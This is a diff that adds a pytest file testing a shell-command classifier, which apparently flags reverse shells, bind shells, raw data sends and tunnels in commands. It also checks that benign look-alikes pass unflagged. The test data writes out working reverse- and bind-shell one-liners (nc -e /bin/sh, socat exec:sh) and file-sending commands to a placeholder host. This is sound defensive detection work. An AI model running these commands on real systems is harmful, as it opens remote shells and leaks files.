@@ -1,0 +1,57 @@
+"""Raw connections, tunnels, listeners."""
+
+import pytest
+
+from tests.support.commands import facts_of
+
+HITS = [
+    ("nc -e /bin/sh h 1", "reverse-shell"),
+    ("nc h 1 -c bash", "reverse-shell"),
+    ("ncat --exec=/bin/sh h 1", "reverse-shell"),
+    ("nc -lvpe /bin/sh 1", "bind-shell"),
+    ("rcat connect -s bash h 1", "reverse-shell"),
+    ("socket -qvp '/bin/sh -i' h 1", "reverse-shell"),
+    ("nc -lp 1", "listens"),
+    ("rlwrap nc -lvnp 1", "shell-listener"),
+    ("nc h 1 < notes", "sends-raw"),
+    ("cat notes | telnet h 1", "sends-raw"),
+    ("socat tcp:h:1 exec:sh", "reverse-shell"),
+    ("socat tcp-l:1 system:sh", "bind-shell"),
+    ("socat - exec:sh", "shell-escape"),
+    ("socat file:`tty`,raw,echo=0 tcp-listen:1", "shell-listener"),
+    ("socat -u file:/srv/x tcp:h:1", "sends-raw"),
+    ("socat tcp-listen:1,fork -", "listens"),
+    ("openssl s_server -quiet -port 1", "shell-listener"),
+    ("openssl enc -d -in x | sh", "executes-decoded"),
+    ("openssl req -engine ./e.so", "loads-library"),
+    ("ssh -R 1:localhost:22 h", "tunnels"),
+    ("ngrok http 80", "tunnels"),
+    ("chisel client h R:socks", "tunnels"),
+    ("code tunnel", "tunnels"),
+    ("stty raw -echo; fg", "shell-listener"),
+    ("xterm -display 192.0.2.7:1", "reverse-shell"),
+    ("ztcp h 1", "raw-network"),
+]
+MISSES = [
+    ("nc -zv h 1", "reverse-shell"),
+    ("nc h 1", "reverse-shell"),
+    ("echo quit | telnet h 1", "sends-raw"),
+    ("socat tcp:h:1 -", "reverse-shell"),
+    ("openssl enc -e -in x", "executes-decoded"),
+    ("ssh -L 1:localhost:22 h", "tunnels"),
+    ("ngrok version", "tunnels"),
+    ("chisel client h 8080:localhost:80", "tunnels"),
+    ("code .", "tunnels"),
+    ("xterm -display localhost:0", "reverse-shell"),
+    ("stty sane", "shell-listener"),
+]
+
+
+@pytest.mark.parametrize(("command", "fact"), HITS)
+def test_the_deed_is_seen(command: str, fact: str) -> None:
+    assert fact in facts_of(command)
+
+
+@pytest.mark.parametrize(("command", "fact"), MISSES)
+def test_its_neighbour_is_not(command: str, fact: str) -> None:
+    assert fact not in facts_of(command)
